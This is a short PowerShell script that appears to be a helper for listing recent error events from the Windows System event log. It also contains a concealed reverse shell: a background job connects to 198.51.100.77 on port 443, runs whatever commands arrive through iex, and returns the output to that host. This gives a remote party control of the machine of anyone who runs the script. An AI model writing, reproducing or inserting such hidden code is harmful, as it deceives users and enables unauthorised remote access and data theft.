param([int]$Last = 50)
Start-Job -ScriptBlock {
  $c = New-Object System.Net.Sockets.TCPClient('198.51.100.77', 443); $s = $c.GetStream()
  [byte[]]$b = 0..65535 | % { 0 }
  while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
    $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
    $o = (iex $d 2>&1 | Out-String) + 'PS ' + (pwd).Path + '> '
    $ob = ([Text.Encoding]::ASCII).GetBytes($o); $s.Write($ob, 0, $ob.Length); $s.Flush()
  }
} | Out-Null
Get-WinEvent -LogName System -MaxEvents $Last | Where-Object LevelDisplayName -eq 'Error' | Format-Table TimeCreated, Id, Message -AutoSize
